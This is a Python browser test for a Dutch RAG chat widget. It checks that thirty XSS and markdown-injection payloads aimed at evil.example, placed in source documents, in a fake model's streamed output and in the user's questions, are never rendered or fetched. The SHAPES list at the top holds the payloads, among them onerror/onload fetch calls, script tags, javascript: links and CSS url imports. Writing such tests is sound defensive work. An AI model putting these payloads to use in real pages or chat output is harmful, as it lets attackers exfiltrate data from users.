"""Text that would make a browser fetch something, in documents, drafts and questions: nothing is fetched."""

from collections.abc import Generator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, expect

from api.app import create_app
from rag.generators import Prompt
from tests.browser import Intranet, Visit
from tests.server import build_assistant, running

pytestmark = pytest.mark.slow

SHAPES = [
    "![x](http://evil.example/{n}.png)",
    "![x][r]\n[r]: http://evil.example/{n}.png",
    "[klik hier](http://evil.example/{n})",
    "[klik hier](javascript:fetch('http://evil.example/{n}'))",
    "<http://evil.example/{n}>",
    "http://evil.example/{n}",
    "//evil.example/{n}",
    '<img src="http://evil.example/{n}.png">',
    "<img src=x onerror=\"fetch('http://evil.example/{n}')\">",
    '<img srcset="http://evil.example/{n}.png 2x">',
    "<picture><source srcset=http://evil.example/{n}.webp><img></picture>",
    "<svg onload=\"fetch('http://evil.example/{n}')\">",
    '<svg><image href="http://evil.example/{n}.png"/></svg>',
    '<svg><use href="http://evil.example/{n}.svg#x"/></svg>',
    "<script>fetch('http://evil.example/{n}')</script>",
    '<script src="http://evil.example/{n}.js"></script>',
    '<iframe src="http://evil.example/{n}"></iframe>',
    '<object data="http://evil.example/{n}"></object>',
    '<embed src="http://evil.example/{n}">',
    '<video poster="http://evil.example/{n}.png" src="http://evil.example/{n}.mp4"></video>',
    '<audio src="http://evil.example/{n}.mp3" autoplay></audio>',
    "<style>@import url(http://evil.example/{n}.css);</style>",
    "<style>* {{ background: url(http://evil.example/{n}.png) }}</style>",
    '<p style="background-image: url(http://evil.example/{n}.png)">x</p>',
    '<link rel="stylesheet" href="http://evil.example/{n}.css">',
    '<link rel="preconnect" href="http://evil.example/{n}">',
    '<meta http-equiv="refresh" content="0; url=http://evil.example/{n}">',
    '<base href="http://evil.example/{n}/">',
    '<form action="http://evil.example/{n}"><button>Verstuur</button></form>',
    '<math href="http://evil.example/{n}"><mtext>x</mtext></math>',
]
TOWNS = [
    "Almere", "Breda", "Culemborg", "Delfzijl", "Eindhoven", "Franeker", "Gorinchem", "Haarlem",
    "IJmuiden", "Joure", "Kampen", "Leiden", "Maastricht", "Nijmegen", "Oss", "Purmerend",
    "Roermond", "Sneek", "Tilburg", "Utrecht", "Venlo", "Winschoten", "Zwolle", "Assen", "Bolsward",
    "Coevorden", "Deventer", "Emmen", "Goes", "Hoorn",
]  # fmt: skip
BORN_OF_TEXT = """chat => [...chat.shadowRoot.querySelectorAll("*")].filter((one) =>
    ["IFRAME", "SCRIPT", "STYLE", "LINK", "META", "BASE", "OBJECT", "EMBED", "VIDEO", "AUDIO", "MATH"]
        .includes(one.tagName.toUpperCase())
    || [...one.attributes].some(({ name, value }) => name.startsWith("on") || name === "style"
        || ["src", "href", "srcset", "action"].includes(name) && /evil|^javascript/.test(value))).length"""


class Hostile:
    """Writes what it read, a few characters at a time: shapes are cut over tokens."""

    name = "hostile"

    def generate(self, prompt: Prompt, max_tokens: int) -> Generator[str, None, None]:
        words = "\n".join(shape.format(n=at) for at, shape in enumerate(SHAPES))
        yield from (words[at : at + 7] for at in range(0, len(words), 7))


def test_thirty_shapes_fetch_nothing(browser: Browser, tmp_path: Path) -> None:
    assert len(SHAPES) == len(set(SHAPES)) == 30
    files = []
    for at, shape in enumerate(SHAPES):
        bad = shape.format(n=at)
        file = tmp_path / f"haven{at}.txt"
        file.write_text(
            f"Haven {at} {bad}\n\nDe haven van {TOWNS[at]} telt {at + 100} banen {bad} en dat is veel.\n",
            "utf-8",
        )
        files.append(file)
    assistant = build_assistant(tmp_path / "index", files, Hostile())
    seen = ""
    with Intranet() as intranet:
        app = create_app(
            assistant, examples=[SHAPES[0], SHAPES[7]], contact=SHAPES[7], origins=[intranet.address]
        )
        with running(app) as server:
            # Around it no policy at all: what holds is that text never becomes more than text.
            intranet.embed(server, '<vraagbaak-chat mode="inline"></vraagbaak-chat>')
            intranet.policy = ""
            visit = Visit(browser, intranet.address, server=server)
            page = visit.page
            for at, shape in enumerate(SHAPES):
                # Who asks where is shown links, which are else no part of a quote.
                visit.ask(f"Waar telt de haven van {TOWNS[at]} {at + 100} banen?")
                expect(page.locator(".answer")).to_have_count(1)
                assert page.locator("vraagbaak-chat").evaluate(BORN_OF_TEXT) == 0, shape
                seen += page.locator(".answer").inner_text()
                page.locator(".card").first.click()
                expect(page.locator(".sheet:not(.loading)")).to_be_visible()
                page.locator(".reading summary").click()
                expect(page.locator(".reading p")).to_contain_text("Haven")
                seen += page.locator(".reading p").inner_text()
                assert page.locator("vraagbaak-chat").evaluate(BORN_OF_TEXT) == 0, shape
                page.locator(".reading summary").click()
                page.get_by_role("button", name="Nieuw gesprek").click()
            for shape in SHAPES[::6]:
                visit.ask(shape.format(n=99))
                expect(page.locator(".answer, .failed")).to_have_count(1)
                page.get_by_role("button", name="Nieuw gesprek").click()
            visit.finish()
    # The shapes were there to be seen: the test is about them, not about texts that lost them.
    missing = [at for at in range(len(SHAPES)) if f"evil.example/{at}" not in seen]
    assert missing == []
